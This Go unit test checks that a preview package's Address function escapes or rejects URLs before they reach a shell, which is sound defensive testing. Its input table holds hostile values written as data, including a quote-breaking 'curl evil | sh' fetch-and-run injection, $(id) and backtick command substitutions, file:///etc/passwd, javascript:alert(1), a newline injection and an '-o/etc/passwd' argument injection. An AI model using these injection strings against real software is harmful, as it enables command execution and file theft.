package preview_test

import (
	"testing"

	"github.com/eddy-previews/eddy/internal/preview"
)

func TestAnAddressTellsAShellNothing(t *testing.T) {
	for text, want := range map[string]string{
		"https://api-1.preview.example.com":                     "https://api-1.preview.example.com",
		"http://[2001:db8::1]:8080/a?b=c&d=%20e#f":              "http://[2001:db8::1]:8080/a?b=c&d=%20e#f",
		"https://example.com:8443/a;b/(c)":                      "https://example.com:8443/a;b/(c)",
		"https://example.com/\"; curl evil | sh; \"":            "https://example.com/%22;%20curl%20evil%20%7C%20sh;%20%22",
		"https://example.com/$(id)`id`${HOME}\\x'y'?q=$(id)#$x": "https://example.com/%24%28id%29%60id%60%24%7BHOME%7D%5Cx%27y%27?q=%24(id)#%24x",
		"https://example.com/ü":                                 "https://example.com/%C3%BC",
		"https://example.com/%0a":                               "https://example.com/%0a",
		"https://example.com/\nURL=x":                           "",
		"file:///etc/passwd":                                    "",
		"javascript:alert(1)":                                   "",
		"https://$(id)/":                                        "",
		"https://a`id`/":                                        "",
		"https://\"/":                                           "",
		"https://example.com@elsewhere.example.com":             "",
		"-o/etc/passwd":                                         "",
		"":                                                      "",
	} {
		if got, err := preview.Address(text); got != want || (err == nil) != (want != "") {
			t.Errorf("%q is %q, %v", text, got, err)
		}
	}
}
